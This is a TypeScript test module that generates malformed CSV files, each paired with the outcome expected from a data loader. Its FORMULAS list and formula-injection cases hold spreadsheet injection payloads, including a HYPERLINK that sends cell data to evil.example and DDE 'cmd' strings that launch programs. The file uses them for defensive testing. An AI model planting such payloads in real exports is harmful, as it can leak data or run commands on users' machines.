/**
 * The hostile corpus: malformed deliveries generated from the extract schemas, each with what
 * the loader must do with it. Every file is built from valid rows (see schema-rows.ts) and then
 * broken the way real extracts break: cut short, saved with another delimiter or encoding,
 * given odd line ends, duplicate keys, impossible dates, codes from the wrong list, huge cells,
 * formula strings, NUL bytes, or random byte damage. The same options give the same bytes.
 */
import { gzipSync } from 'node:zlib';
import { type ExtractSchema, LA_EXTRACTS } from '../../functions/core/extracts/index.js';
import type { LoadResult } from '../../functions/core/load/index.js';
import { Prng } from '../../functions/core/synth/prng.js';
import {
  corruptionsFor,
  csvField,
  csvRecord,
  sampleRows,
  schemaHeader,
  type TextRow,
  writeCsv,
} from './schema-rows.js';

/** The LA, month and neighbouring months every case delivers for. */
export const LA = '850';
export const MONTH = '2020-02';
export const PREVIOUS_MONTH = '2020-01';
export const NEXT_MONTH = '2020-03';

/** A file as delivered. */
export interface CorpusFile {
  readonly name: string;
  readonly bytes: Buffer;
}

/** What the loader must do with a case's file (beyond the invariants every file is held to). */
export interface Expectation {
  /** Allowed statuses. */
  readonly status?: readonly LoadResult['status'][];
  /** Data records in the file: rows_read must equal it. */
  readonly records?: number;
  /** Rows the loader must reject. */
  readonly rejected?: number;
  /** Fragments each of which some reject's rule must contain. */
  readonly rules?: readonly string[];
  /** Fragment of a whole-file rejection's message. */
  readonly message?: string;
  /** Header names that must be listed as dropped. */
  readonly dropped?: readonly string[];
  /** Text that must appear nowhere in the month's Parquet (dropped free text). */
  readonly absent?: readonly string[];
  /** Values the month's Parquet must hold, by key. */
  readonly stored?: readonly { key: string; column: string; value: string }[];
}

/** One malformed delivery and what must happen to it. */
export interface CorpusCase {
  /** Unique, e.g. `truncated/mid-quote/contacts`. */
  readonly id: string;
  /** The kind of damage, for the report. */
  readonly category: string;
  readonly extract: string;
  readonly file: CorpusFile;
  /** Deliveries loaded first (each must load), e.g. another month holding a duplicate key. */
  readonly before?: readonly CorpusFile[];
  readonly expect: Expectation;
}

export interface CorpusOptions {
  /** Full sizes (300 000-row files, more random damage) rather than the quick subset's. */
  readonly full: boolean;
  readonly seed?: number;
}

/** Formula-injection strings as they arrive in extracts. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  '\uff1d1+1',
  "=cmd|' /C notepad'!'A1'",
  '-=1+1',
] as const;

const ROWS = 12;

/** Delivery file name for an extract. */
export function deliveryName(extract: string, month = MONTH, la = LA): string {
  return `${extract}_${la}_${month}.csv`;
}

/** Valid rows whose free text is plain ASCII, for byte-level damage that must stay in place. */
function plainRows(schema: ExtractSchema, n: number, seed: number, prefix = 'id-'): TextRow[] {
  return sampleRows(schema, MONTH, n, seed, prefix).map((row, i) => {
    const plain = { ...row };
    for (const c of schema.columns) {
      if (c.type === 'string' && !schema.key.includes(c.name)) {
        plain[c.name] = `${c.name}-${i}`;
      }
    }
    return plain;
  });
}

/** First column of `type` that is not part of the key (and, when asked, required). */
function columnOf(schema: ExtractSchema, type: string, required = false): string | undefined {
  return schema.columns.find(
    (c) => c.type === type && !schema.key.includes(c.name) && (!required || c.required),
  )?.name;
}

/** The key column (every LA extract has one). */
function keyOf(schema: ExtractSchema): string {
  return schema.key[0]!;
}

function lines(schema: ExtractSchema, rows: readonly TextRow[]): string[] {
  const header = schemaHeader(schema);
  return [csvRecord(header), ...rows.map((row) => csvRecord(header.map((h) => row[h] ?? '')))];
}

const utf8 = (text: string) => Buffer.from(text, 'utf8');

/** Builds the corpus. */
export function buildCorpus(options: CorpusOptions): CorpusCase[] {
  const seed = options.seed ?? 20200201;
  const rng = new Prng(seed);
  const cases: CorpusCase[] = [];
  for (const [index, schema] of LA_EXTRACTS.entries()) {
    const extract = schema.name;
    const name = deliveryName(extract);
    const add = (
      category: string,
      variant: string,
      bytes: Buffer | string,
      expect: Expectation,
      extra: { before?: CorpusFile[]; name?: string } = {},
    ) => {
      cases.push({
        id: `${category}/${variant}/${extract}`,
        category,
        extract,
        file: { name: extra.name ?? name, bytes: typeof bytes === 'string' ? utf8(bytes) : bytes },
        ...(extra.before ? { before: extra.before } : {}),
        expect,
      });
    };
    const base = seed + index * 1000;
    const rows = sampleRows(schema, MONTH, ROWS, base);
    const plain = plainRows(schema, ROWS, base + 1);
    const text = writeCsv(rows, { header: schemaHeader(schema) });
    const plainLines = lines(schema, plain);
    const plainText = `${plainLines.join('\n')}\n`;
    const key = keyOf(schema);
    const stringColumn = columnOf(schema, 'string')!;
    // A column whose values are checked against a list: a code, or (s47) a boolean.
    const codeColumn = columnOf(schema, 'code') ?? columnOf(schema, 'boolean')!;
    const codeRule = columnOf(schema, 'code')
      ? 'code: not in the code list'
      : 'type: not a boolean';
    const dateColumn = columnOf(schema, 'date', true)!;
    const LOADED = ['loaded'] as const;
    const NOT_REPLACED = ['not_replaced'] as const;
    const REJECTED = ['rejected'] as const;

    // Cut short: inside the last record, inside a quoted field, inside the header, just after it.
    {
      const lastStart = text.lastIndexOf('\n', text.length - 2) + 1;
      const lastLength = text.length - 1 - lastStart;
      for (const fraction of [0.2, 0.5, 0.9]) {
        const cut = lastStart + 1 + Math.floor((lastLength - 1) * fraction);
        add('truncated', `mid-record-${fraction}`, text.slice(0, cut), {
          status: LOADED,
          records: ROWS,
        });
      }
      const quotedRows = plain.map((row, i) =>
        i === ROWS - 1 ? { ...row, [stringColumn]: 'cut, "here" and lost' } : row,
      );
      const quoted = `${lines(schema, quotedRows).join('\n')}\n`;
      add('truncated', 'mid-quote', quoted.slice(0, quoted.lastIndexOf('"here"') + 3), {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: ['structure: broken quoting: a quote is never closed'],
      });
      add('truncated', 'in-header', plainText.slice(0, 4), { status: REJECTED });
      add('truncated', 'after-header', plainText.slice(0, plainLines[0]!.length + 4), {
        status: NOT_REPLACED,
        records: 1,
        rejected: 1,
      });
    }

    // Another delimiter for the whole file, or for one row.
    for (const [label, delimiter] of [
      ['semicolon', ';'],
      ['tab', '\t'],
      ['pipe', '|'],
    ] as const) {
      add(
        'wrong-delimiter',
        label,
        `${
          plain.length > 0
            ? [
                schemaHeader(schema).join(delimiter),
                ...plain.map((r) =>
                  schemaHeader(schema)
                    .map((h) => r[h] ?? '')
                    .join(delimiter),
                ),
              ].join('\n')
            : ''
        }\n`,
        { status: REJECTED, message: 'not comma-separated' },
      );
    }
    {
      const mixed = [...plainLines];
      mixed[3] = schemaHeader(schema)
        .map((h) => plain[2]![h] ?? '')
        .join(';');
      add('wrong-delimiter', 'one-row', `${mixed.join('\n')}\n`, {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: ['structure: wrong number of fields'],
      });
    }

    // Encodings: Latin-1 and Windows-1252 bytes, UTF-16 with and without a BOM, BOMs.
    {
      const row = 5;
      const latin = plainLines.map((line) => utf8(`${line}\n`));
      latin[row] = Buffer.from(
        `${plainLines[row]!.replace(`${stringColumn}-${row - 1}`, 'Zoë Brontë')}\n`,
        'latin1',
      );
      add('encoding', 'latin1-row', Buffer.concat(latin), {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: ['encoding: not valid UTF-8'],
      });
      const cp1252 = plainLines.map((line) => utf8(`${line}\n`));
      cp1252[row] = Buffer.concat([
        utf8(plainLines[row]!.replace(`${stringColumn}-${row - 1}`, '')),
        Buffer.from([0x93, 0x71, 0x75, 0x6f, 0x74, 0x65, 0x64, 0x94, 0x96, 0x0a]),
      ]);
      add('encoding', 'cp1252-smart-quotes', Buffer.concat(cp1252), {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: ['encoding: not valid UTF-8'],
      });
      add(
        'encoding',
        'latin1-header',
        Buffer.from(`${plainLines[0]},Référent\n${plainLines.slice(1).join(',x\n')},x\n`, 'latin1'),
        { status: REJECTED, message: 'header is not valid UTF-8' },
      );
      const allLatin = plain.map((r) => ({ ...r, [stringColumn]: `Zoë-${r[key]}` }));
      add(
        'encoding',
        'latin1-every-row',
        Buffer.from(lines(schema, allLatin).join('\r\n'), 'latin1'),
        {
          status: NOT_REPLACED,
          records: ROWS,
          rejected: ROWS,
        },
      );
      const le = Buffer.from(plainText, 'utf16le');
      const be = Buffer.from(le).swap16();
      add('encoding', 'utf16le-bom', Buffer.concat([Buffer.from([0xff, 0xfe]), le]), {
        status: REJECTED,
        message: 'UTF-16',
      });
      add('encoding', 'utf16be-bom', Buffer.concat([Buffer.from([0xfe, 0xff]), be]), {
        status: REJECTED,
        message: 'UTF-16',
      });
      add('encoding', 'utf16le-no-bom', le, { status: REJECTED, message: 'NUL bytes' });
      add('encoding', 'utf16be-no-bom', be, { status: REJECTED, message: 'NUL bytes' });
      add('encoding', 'utf8-bom', `\uFEFF${text}`, { status: LOADED, records: ROWS, rejected: 0 });
      add('encoding', 'double-bom', `\uFEFF\uFEFF${text}`, { status: LOADED, records: ROWS });
      const second = plainRows(schema, 4, base + 2, 'second-');
      add('encoding', 'bom-mid-file', `${plainText}\uFEFF${lines(schema, second).join('\n')}\n`, {
        status: LOADED,
        records: ROWS + 1 + 4,
      });
    }

    // Line ends: CRLF, CR, a mix, and line breaks inside quoted values.
    {
      const header = schemaHeader(schema);
      for (const eol of ['\r\n', '\r'] as const) {
        add('line-ends', eol === '\r' ? 'cr' : 'crlf', writeCsv(rows, { header, eol }), {
          status: LOADED,
          records: ROWS,
          rejected: 0,
        });
      }
      const all = lines(schema, rows);
      let mixed = '';
      for (const line of all) mixed += line + ['\n', '\r\n', '\r'][rng.int(3)]!;
      add('line-ends', 'mixed', mixed, { status: LOADED, records: ROWS, rejected: 0 });
      const multi = rows.map((row, i) => ({
        ...row,
        [stringColumn]: `line one\r\nline two ${i}\nthree`,
      }));
      add('line-ends', 'inside-quotes', writeCsv(multi, { header, eol: '\r\n' }), {
        status: LOADED,
        records: ROWS,
        rejected: 0,
        stored: [
          { key: multi[1]![key]!, column: stringColumn, value: 'line one\r\nline two 1\nthree' },
        ],
      });
    }

    // Duplicate keys within the file and across files.
    {
      const dup = rows.map((row, i) => (i === 7 ? { ...row, [key]: rows[2]![key]! } : row));
      add('duplicate-key', 'in-file', writeCsv(dup, { header: schemaHeader(schema) }), {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: ['key: duplicate of an earlier row in this file'],
      });
      const formulaKeys = rows.map((row, i) =>
        i === 3 || i === 9 ? { ...row, [key]: FORMULAS[0] } : row,
      );
      add('duplicate-key', 'formula-key', writeCsv(formulaKeys, { header: schemaHeader(schema) }), {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: ['key: duplicate'],
      });
      const event = schema.kind === 'event';
      for (const [label, otherMonth] of [
        ['previous-month', PREVIOUS_MONTH],
        ['next-month', NEXT_MONTH],
      ] as const) {
        const other = sampleRows(schema, otherMonth, 3, base + 3, `${otherMonth}-`);
        other[1] = { ...other[1]!, [key]: rows[4]![key]! };
        add(
          'duplicate-key',
          `${event ? 'rejected' : 'allowed'}-${label}`,
          text,
          event
            ? {
                status: LOADED,
                records: ROWS,
                rejected: 1,
                rules: [`key: already loaded for month ${otherMonth}`],
              }
            : { status: LOADED, records: ROWS, rejected: 0 },
          {
            before: [
              {
                name: deliveryName(extract, otherMonth),
                bytes: utf8(writeCsv(other, { header: schemaHeader(schema) })),
              },
            ],
          },
        );
      }
      add(
        'duplicate-key',
        'other-la',
        text,
        { status: LOADED, records: ROWS, rejected: 0 },
        {
          before: [{ name: deliveryName(extract, MONTH, '921'), bytes: utf8(text) }],
        },
      );
      const resent = sampleRows(schema, MONTH, 5, base + 4);
      add(
        'duplicate-key',
        'resent-month',
        text,
        { status: LOADED, records: ROWS, rejected: 0 },
        {
          before: [{ name, bytes: utf8(writeCsv(resent, { header: schemaHeader(schema) })) }],
        },
      );
    }

    // Impossible and out-of-month dates, codes from the wrong list: one row broken per file.
    for (const bad of [
      '31/02/2020',
      '30/02/2020',
      '2019-02-29',
      '2020-02-30',
      '2020-13-01',
      '00/02/2020',
      '32/01/2020',
    ]) {
      const broken = rows.map((row, i) => (i === 6 ? { ...row, [dateColumn]: bad } : row));
      add(
        'impossible-date',
        bad.replaceAll('/', '-'),
        writeCsv(broken, { header: schemaHeader(schema) }),
        {
          status: LOADED,
          records: ROWS,
          rejected: 1,
          rules: ['type: not a date'],
        },
      );
    }
    for (const corruption of corruptionsFor(schema, MONTH)) {
      const broken = rows.map((row, i) =>
        i === 8 ? corruption.apply(row, rows.slice(0, i)) : row,
      );
      add(
        'rule',
        corruption.name.replaceAll(/[^A-Za-z0-9_+-]+/g, '-'),
        writeCsv(broken, { header: schemaHeader(schema) }),
        {
          status: LOADED,
          records: ROWS,
          rejected: 1,
          rules: [corruption.rule],
        },
      );
    }
    if (columnOf(schema, 'code')) {
      const foreign = LA_EXTRACTS.flatMap((s) => s.columns)
        .flatMap((c) => c.codes ?? [])
        .find((code) => {
          const own = schema.columns.find((c) => c.name === codeColumn)!.codes!;
          return !own.some((o) => o.toUpperCase() === code.toUpperCase());
        })!;
      const broken = rows.map((row, i) => (i === 2 ? { ...row, [codeColumn]: foreign } : row));
      add('wrong-code-list', codeColumn, writeCsv(broken, { header: schemaHeader(schema) }), {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: ['code: not in the code list'],
      });
    }

    // Huge cells: 1 MB in a key, a code, an unknown column; a 3 MB line; a 1 MB quoted blob.
    {
      const mb = 'W'.repeat(1 << 20);
      const header = schemaHeader(schema);
      const big = rows.map((row, i) => (i === 1 ? { ...row, [key]: `K${mb}` } : row));
      add('huge-field', '1mb-key', writeCsv(big, { header }), {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      const bigCode = rows.map((row, i) => (i === 1 ? { ...row, [codeColumn]: `=${mb}` } : row));
      add('huge-field', '1mb-formula-code', writeCsv(bigCode, { header }), {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: [codeRule],
      });
      add(
        'huge-field',
        '1mb-unknown-column',
        writeCsv(
          rows,
          {
            header: [...header, 'Case Notes'],
            fieldOf: Object.fromEntries(header.map((h) => [h, h])),
          },
          (i) => (i === 0 ? `Child seen by Mary Poppins ${mb}` : 'Seen by Mary Poppins'),
        ),
        {
          status: LOADED,
          records: ROWS,
          rejected: 0,
          dropped: ['Case Notes'],
          absent: ['Mary Poppins'],
        },
      );
      const long = rows.map((row, i) =>
        i === 5 ? { ...row, [key]: `L${'x'.repeat(3 << 20)}` } : row,
      );
      add('huge-field', '3mb-line', writeCsv(long, { header }), {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      const blob = rows.map((row, i) =>
        i === 4 ? { ...row, [stringColumn]: `"${'a,\r\n"b" '.repeat(1 << 16)}` } : row,
      );
      add('huge-field', '1mb-quoted-blob', writeCsv(blob, { header }), {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
    }

    // Many rows, read by DuckDB and (with one broken row) record by record.
    if (index === 0 || options.full) {
      const n = options.full ? 300_000 : 20_000;
      const many = sampleRows(schema, MONTH, 500, base + 5);
      const header = schemaHeader(schema);
      const body: string[] = [csvRecord(header)];
      for (let i = 0; i < n; i++) {
        const row = many[i % many.length]!;
        body.push(csvRecord(header.map((h) => (h === key ? `r${i}` : (row[h] ?? '')))));
      }
      add('huge-row-count', `${n}-rows`, `${body.join('\n')}\n`, {
        status: LOADED,
        records: n,
        rejected: 0,
      });
      body.splice(n / 2, 0, 'only,three,fields');
      add('huge-row-count', `${n}-rows-one-broken`, `${body.join('\n')}\n`, {
        status: LOADED,
        records: n + 1,
        rejected: 1,
        rules: ['structure: wrong number of fields'],
      });
    }

    // Empty and whitespace lines.
    {
      const spaced = plainLines.flatMap((line, i) => (i % 3 === 1 ? ['', line, ''] : [line]));
      add('empty-lines', 'between-rows', `${spaced.join('\n')}\n\n\n`, {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      add('empty-lines', 'leading', `\n\n${plainText}`, {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      add('empty-lines', 'crlf-blank', `${plainLines.join('\r\n\r\n')}\r\n`, {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      const ws = [...plainLines];
      ws.splice(4, 0, '   ', '\t');
      add('empty-lines', 'whitespace-only-lines', `${ws.join('\n')}\n`, {
        status: LOADED,
        records: ROWS + 2,
        rejected: 2,
        rules: ['structure: wrong number of fields'],
      });
    }

    // Trailing delimiters.
    {
      const [head, ...body] = plainLines;
      add('trailing-delimiter', 'header', `${head},\n${body.join('\n')}\n`, {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      add('trailing-delimiter', 'rows', `${head}\n${body.join(',\n')},\n`, {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      add('trailing-delimiter', 'both-twice', `${head},,\n${body.join(',,\n')},,\n`, {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      const extra = body.map((line, i) => (i === 3 ? `${line},surplus` : line));
      add('trailing-delimiter', 'surplus-value', `${head}\n${extra.join('\n')}\n`, {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: ['structure: wrong number of fields'],
      });
      const short = body.map((line, i) => (i === 3 ? line.slice(0, line.lastIndexOf(',')) : line));
      add('trailing-delimiter', 'short-row', `${head}\n${short.join('\n')}\n`, {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: ['structure: wrong number of fields'],
      });
    }

    // Quotes in the middle of fields, after closing quotes, around padded values.
    {
      const header = schemaHeader(schema);
      const mid = plain.map((row, i) => (i === 2 ? { ...row, [stringColumn]: 'o"brien' } : row));
      const midText = `${[csvRecord(header), ...mid.map((r) => header.map((h) => (h === stringColumn ? r[h]! : csvField(r[h] ?? ''))).join(','))].join('\n')}\n`;
      add('quotes', 'mid-field', midText, {
        status: LOADED,
        records: ROWS,
        rejected: 0,
        stored: [{ key: mid[2]![key]!, column: stringColumn, value: 'o"brien' }],
      });
      const after = [...plainLines];
      after[5] = after[5]!.replace(`${stringColumn}-4`, `"${stringColumn}"-4`);
      add('quotes', 'after-closing-quote', `${after.join('\n')}\n`, {
        status: LOADED,
        records: ROWS,
        rejected: 1,
        rules: ['structure: broken quoting: text after a closing quote'],
      });
      add('quotes', 'quote-all-padded', writeCsv(rows, { header, quoteAll: true, pad: true }), {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      const escaped = plain.map((row, i) =>
        i === 1 ? { ...row, [stringColumn]: 'say ""hi"", "x"' } : row,
      );
      add('quotes', 'escaped', writeCsv(escaped, { header }), {
        status: LOADED,
        records: ROWS,
        rejected: 0,
        stored: [{ key: escaped[1]![key]!, column: stringColumn, value: 'say ""hi"", "x"' }],
      });
      const lone = [...plainLines];
      lone[6] = `"${lone[6]}`;
      add('quotes', 'opening-never-closed', `${lone.join('\n')}\n`, {
        status: LOADED,
        records: 6,
        rejected: 1,
        rules: ['structure: broken quoting: a quote is never closed'],
      });
    }

    // Formula injection, in free text (stored as text) and in coded columns (rejected, shown).
    {
      const header = schemaHeader(schema);
      const inText = rows.map((row, i) => ({
        ...row,
        [stringColumn]: FORMULAS[i % FORMULAS.length]!,
      }));
      add('formula-injection', 'free-text', writeCsv(inText, { header }), {
        status: LOADED,
        records: ROWS,
        rejected: 0,
        stored: [{ key: inText[0]![key]!, column: stringColumn, value: FORMULAS[0] }],
      });
      const inCode = rows.map((row, i) =>
        i < FORMULAS.length ? { ...row, [codeColumn]: FORMULAS[i]! } : row,
      );
      add('formula-injection', 'coded-column', writeCsv(inCode, { header }), {
        status: LOADED,
        records: ROWS,
        rejected: FORMULAS.length,
        rules: [codeRule],
      });
      const inDate = rows.map((row, i) =>
        i < FORMULAS.length ? { ...row, [dateColumn]: FORMULAS[i]! } : row,
      );
      add('formula-injection', 'date-column', writeCsv(inDate, { header }), {
        status: ['loaded', 'not_replaced'],
        records: ROWS,
        rejected: FORMULAS.length,
        rules: ['type: not a date'],
      });
      add(
        'formula-injection',
        'header',
        writeCsv(
          rows,
          {
            header: [...header, '=HYPERLINK("http://evil.example","x")'],
            fieldOf: Object.fromEntries(header.map((h) => [h, h])),
          },
          () => '@SUM(1)',
        ),
        { status: LOADED, records: ROWS, rejected: 0, absent: ['@SUM(1)'] },
      );
    }

    // NUL bytes in the header sniff window, past it, and inside a quoted value.
    {
      add(
        'nul-bytes',
        'in-head',
        Buffer.concat([
          utf8(plainLines.slice(0, 3).join('\n')),
          Buffer.from([0]),
          utf8(`\n${plainLines.slice(3).join('\n')}\n`),
        ]),
        {
          status: REJECTED,
          message: 'NUL bytes',
        },
      );
      const padding = sampleRows(schema, MONTH, 1500, base + 6, 'pad-');
      const long = lines(schema, padding).join('\n');
      add(
        'nul-bytes',
        'past-64k',
        Buffer.concat([utf8(long), utf8(`\n${key}-nul`), Buffer.from([0]), utf8(',x\n')]),
        {
          status: REJECTED,
          message: 'NUL bytes',
        },
      );
      add(
        'nul-bytes',
        'quoted',
        Buffer.concat([
          utf8(`${plainLines[0]}\n"a`),
          Buffer.from([0]),
          utf8(`b"${plainLines[1]!.slice(plainLines[1]!.indexOf(','))}\n`),
        ]),
        {
          status: REJECTED,
          message: 'NUL bytes',
        },
      );
    }
    add('header-only', 'lf', `${plainLines[0]}\n`, { status: LOADED, records: 0, rejected: 0 });
    add('header-only', 'no-line-end', plainLines[0]!, { status: LOADED, records: 0, rejected: 0 });
    add('header-only', 'crlf-bom', `\uFEFF${plainLines[0]}\r\n`, {
      status: LOADED,
      records: 0,
      rejected: 0,
    });
    add('empty', 'zero-bytes', '', { status: REJECTED, message: 'empty' });
    add('empty', 'bom-only', '\uFEFF', { status: REJECTED, message: 'empty' });
    add('empty', 'whitespace-only', '  \t \r\n   \n', { status: REJECTED });
    add('empty', 'line-ends-only', '\n\r\n\r\n', { status: REJECTED, message: 'empty' });

    // Not CSV at all.
    {
      add(
        'binary',
        'xlsx-named-csv',
        Buffer.concat([
          Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 6, 0]),
          utf8('[Content_Types].xml'),
        ]),
        {
          status: REJECTED,
          message: 'zip or Excel',
        },
      );
      add('binary', 'gzip', gzipSync(utf8(plainText)), { status: REJECTED });
      add(
        'binary',
        'pdf',
        Buffer.concat([
          utf8('%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n'),
          Buffer.from([0x78, 0x9c, 0, 0xff, 0xfe]),
        ]),
        {
          status: REJECTED,
        },
      );
      const noise = Buffer.alloc(4096);
      for (let i = 0; i < noise.length; i++) noise[i] = rng.int(256);
      add('binary', 'random-bytes', noise, { status: REJECTED });
    }

    // Header variants.
    {
      const header = schemaHeader(schema);
      const fieldOf = (names: string[]) => Object.fromEntries(names.map((n, i) => [n, header[i]]));
      const shouty = header.map((h) => `  ${h.toUpperCase()} `);
      add(
        'header',
        'case-and-spaces',
        writeCsv(rows, { header: shouty, fieldOf: fieldOf(shouty) }),
        { status: LOADED, records: ROWS, rejected: 0 },
      );
      add('header', 'quoted-names', writeCsv(rows, { header, quoteAll: true }), {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      const reversed = [...header].reverse();
      add('header', 'reordered', writeCsv(rows, { header: reversed }), {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      add(
        'header',
        'duplicate-column',
        writeCsv(rows, {
          header: [...header, key.toUpperCase()],
          fieldOf: { ...fieldOf(header), [key.toUpperCase()]: key },
        }),
        {
          status: REJECTED,
          message: 'appears 2 times',
        },
      );
      const required = header.filter((h) => h !== key);
      add('header', 'missing-key-column', writeCsv(rows, { header: required }), {
        status: REJECTED,
        message: `lacks required column ${key}`,
      });
      const optional = schema.columns.filter((c) => !c.required).map((c) => c.name);
      const lean = header.filter((h) => !optional.includes(h));
      add('header', 'optional-columns-missing', writeCsv(rows, { header: lean }), {
        status: LOADED,
        records: ROWS,
        rejected: 0,
      });
      add(
        'header',
        'personal-names-column',
        writeCsv(
          rows,
          { header: [...header, 'Allocated Worker'], fieldOf: fieldOf(header) },
          (i) => `Jane Doe-Smith ${i}`,
        ),
        {
          status: LOADED,
          records: ROWS,
          rejected: 0,
          dropped: ['Allocated Worker'],
          absent: ['Doe-Smith'],
        },
      );
      const wide = [
        ...header,
        ...Array.from({ length: options.full ? 2000 : 300 }, (_, i) => `extra_${i}`),
      ];
      add(
        'header',
        'very-wide',
        writeCsv(rows.slice(0, 3), { header: wide, fieldOf: fieldOf(header) }, () => 'x'),
        {
          status: LOADED,
          records: 3,
          rejected: 0,
        },
      );
      add(
        'header',
        'quoting-broken',
        `"${key}"x,${plainLines[0]!.slice(plainLines[0]!.indexOf(',') + 1)}\n${plainLines.slice(1).join('\n')}\n`,
        {
          status: REJECTED,
          message: 'quoting is broken',
        },
      );
    }

    // Random damage: bytes replaced by ones that matter to CSV.
    {
      const damage = [0x2c, 0x22, 0x0a, 0x0d, 0x20, 0xff, 0xc3, 0x3b, 0x3d];
      const count = options.full ? 20 : 4;
      const source = utf8(text);
      for (let k = 0; k < count; k++) {
        const copy = Buffer.from(source);
        const hits = 1 + rng.int(6);
        for (let h = 0; h < hits; h++) {
          // Never the header: damage to it is the header cases' business.
          const at = text.indexOf('\n') + 1 + rng.int(copy.length - text.indexOf('\n') - 1);
          copy[at] = damage[rng.int(damage.length)]!;
        }
        add('random-damage', `${k}`, copy, {});
      }
    }
  }
  return cases;
}

/**
 * The slice `npm test` loads: one case of each kind of damage (the extracts taking turns) and
 * every fifth rule breach.
 */
export function quickSlice(corpus: readonly CorpusCase[]): CorpusCase[] {
  const kinds = new Map<string, CorpusCase[]>();
  const picked = new Set<CorpusCase>();
  let rules = 0;
  for (const item of corpus) {
    if (item.category === 'rule') {
      if (rules++ % 5 === 0) picked.add(item);
      continue;
    }
    const kind = item.id.slice(0, item.id.lastIndexOf('/'));
    kinds.set(kind, [...(kinds.get(kind) ?? []), item]);
  }
  for (const [i, group] of [...kinds.values()].entries()) picked.add(group[i % group.length]!);
  return corpus.filter((item) => picked.has(item));
}

/** The valid deliveries every case's warehouse starts from: each extract, two months. */
export function baselineFiles(): CorpusFile[] {
  return LA_EXTRACTS.flatMap((schema, index) =>
    [PREVIOUS_MONTH, MONTH].map((month, m) => ({
      name: deliveryName(schema.name, month),
      bytes: utf8(
        writeCsv(sampleRows(schema, month, 20, 7000 + index * 10 + m, `base-${month}-`), {
          header: schemaHeader(schema),
        }),
      ),
    })),
  );
}
